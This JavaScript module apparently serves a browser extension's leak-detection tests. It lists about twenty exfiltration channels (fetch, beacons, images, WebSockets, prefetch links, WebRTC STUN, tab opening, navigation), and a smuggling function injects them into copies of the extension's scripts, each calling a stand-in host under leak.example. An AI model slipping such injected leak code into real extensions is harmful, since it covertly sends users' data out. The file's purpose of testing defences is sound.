// Ways in which an extension could send out what it knows. Each is built into a copy, and must be caught.

import { cp, mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

/**
 * One way: in which file, what it does with an address, and what of it the network must see. Where nothing is to be seen,
 * the policy of our pages forbids it.
 * @typedef {{file: "content.js" | "worker.js" | "page.js", leak: (url: string) => string, seen: "address" | "lookup" |
 *   "packet" | "nothing"}} Way
 */

/** Where packets of these ways go to. @type {Record<string, number>} */
export const PORTS = { webrtc: 3478, "page-webrtc": 3479 };

/** @type {Record<string, Way>} */
export const WAYS = {
  ...inFile("content.js", {
    fetch: [(url) => `fetch("${url}").catch(() => {})`, "address"],
    "fetch-home": [() => `fetch("/feed/?leak=vouch").catch(() => {})`, "address"],
    xhr: [
      (url) => `const ask = new XMLHttpRequest(); ask.open("GET", "${url}"); ask.send()`,
      "address",
    ],
    beacon: [(url) => `navigator.sendBeacon("${url}")`, "address"],
    image: [(url) => `new Image().src = "${url}"`, "address"],
    socket: [(url) => `new WebSocket("${url.replace("https", "wss")}")`, "address"],
    prefetch: [(url) => link("prefetch", url), "address"],
    preconnect: [(url) => link("preconnect", url), "lookup"],
    lookup: [(url) => link("dns-prefetch", url), "lookup"],
    webrtc: [() => webrtc(3478), "packet"],
    open: [(url) => `window.open("${url}")`, "address"],
  }),
  ...inFile("worker.js", {
    "worker-fetch": [(url) => `fetch("${url}").catch(() => {})`, "nothing"],
    "worker-socket": [(url) => `new WebSocket("${url.replace("https", "wss")}")`, "nothing"],
    "worker-tab": [(url) => `chrome.tabs.create({ url: "${url}", active: false })`, "address"],
  }),
  ...inFile("page.js", {
    "page-fetch": [(url) => `fetch("${url}").catch(() => {})`, "nothing"],
    "page-beacon": [(url) => `navigator.sendBeacon("${url}")`, "nothing"],
    "page-image": [(url) => `new Image().src = "${url}"`, "nothing"],
    "page-prefetch": [(url) => link("prefetch", url), "nothing"],
    "page-webrtc": [() => webrtc(3479), "packet"],
    "page-open": [(url) => `window.open("${url}")`, "address"],
    "page-navigation": [(url) => `setTimeout(() => location.assign("${url}"), 500)`, "address"],
  }),
};

/** Where a way leads to. @param {string} name */
export const address = (name) => `https://${name}.leak.example/`;

/**
 * @param {Way["file"]} file
 * @param {Record<string, [Way["leak"], Way["seen"]]>} ways
 */
function inFile(file, ways) {
  return Object.fromEntries(
    Object.entries(ways).map(([name, [leak, seen]]) => [name, { file, leak, seen }]),
  );
}

/**
 * @param {string} rel
 * @param {string} url
 */
function link(rel, url) {
  return `document.head.append(Object.assign(document.createElement("link"), { rel: "${rel}", href: "${url}" }))`;
}

/**
 * A question to a port of this machine, so that it is seen and goes nowhere.
 * @param {number} port
 */
function webrtc(port) {
  return `const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });
    call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));
    globalThis.call = call`;
}

/**
 * A copy of an extension that sends something out in these ways, once each, as soon as a file of it runs.
 * @param {string} extension
 * @param {string[]} names
 */
export async function smuggling(extension, names) {
  const copy = await mkdtemp(join(tmpdir(), "kith-smuggling-"));
  await cp(extension, copy, { recursive: true });
  for (const name of names) {
    const way = WAYS[name];
    if (!way) {
      throw new Error(`There is no way ${name}.`);
    }
    const file = join(copy, way.file);
    await writeFile(file, `${await readFile(file, "utf8")}\n{ ${way.leak(address(name))} }\n`);
  }
  return copy;
}
